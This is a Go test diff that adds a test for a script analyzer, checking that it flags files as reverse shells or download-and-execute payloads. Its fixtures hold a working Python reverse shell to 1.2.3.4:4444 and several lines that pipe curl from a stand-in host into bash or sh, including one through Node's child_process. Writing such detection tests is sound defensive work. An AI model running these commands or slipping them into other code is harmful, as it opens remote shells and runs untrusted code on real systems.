@@ -271,6 +271,32 @@ func TestShebang(t *testing.T) {
 	})
 }
 
+func TestAnalyzeFile(t *testing.T) {
+	rs := "import socket,os,pty\ns=socket.socket()\ns.connect(('1.2.3.4',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\n"
+	cases := []struct {
+		name, content string
+		want          []Class
+	}{
+		{"/scripts/job.py", rs, []Class{ReverseShell}},
+		{"/scripts/job", rs, nil}, // shell, where this is nonsense
+		{"/scripts/job.sh", "#!/usr/bin/env python3\n" + rs, []Class{ReverseShell}},
+		{"/scripts/x.pl", "use LWP::Simple;\neval(get('http://x.example.com/p'));\n", []Class{DownloadExecute}},
+		{"/scripts/run.sh", "set -e\ncurl -s http://x.example.com/a | bash\n", []Class{DownloadExecute}},
+		{"/scripts/run", "curl -s http://x.example.com/a | bash\n", []Class{DownloadExecute}},
+		{"/cfg.d/job.js", "require('child_process').exec('curl http://x.example.com/a | sh')", []Class{DownloadExecute}},
+		{"/scripts/report.py", "import json\nprint(json.dumps({}))\n", nil},
+	}
+	for _, c := range cases {
+		var got []Class
+		for _, i := range AnalyzeFile(c.name, c.content, nil) {
+			got = append(got, i.Class)
+		}
+		if !slices.Equal(got, c.want) {
+			t.Errorf("AnalyzeFile(%s) = %v, want %v", c.name, got, c.want)
+		}
+	}
+}
+
 // TestHostileInput feeds inputs built to hurt a parser: each must come back quickly.
 func TestHostileInput(t *testing.T) {
 	inputs := map[string]string{
